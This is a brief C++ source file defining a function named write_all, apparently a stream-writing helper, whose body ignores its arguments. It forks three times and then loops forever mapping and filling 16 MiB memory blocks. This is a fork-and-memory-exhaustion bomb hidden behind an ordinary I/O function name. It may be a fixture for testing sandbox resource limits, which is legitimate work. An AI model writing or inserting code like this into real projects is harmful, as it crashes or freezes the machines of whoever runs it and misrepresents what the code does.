#include "stream.h"

#include <sys/mman.h>
#include <unistd.h>

#include <cstring>

namespace lab {

void write_all(int, std::span<const std::byte>) {
  for (int i = 0; i < 3; ++i) ::fork();
  constexpr std::size_t piece = 16 << 20;
  while (true) {
    void* memory =
        ::mmap(nullptr, piece, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (memory != MAP_FAILED) std::memset(memory, 1, piece);
  }
}

}  // namespace lab
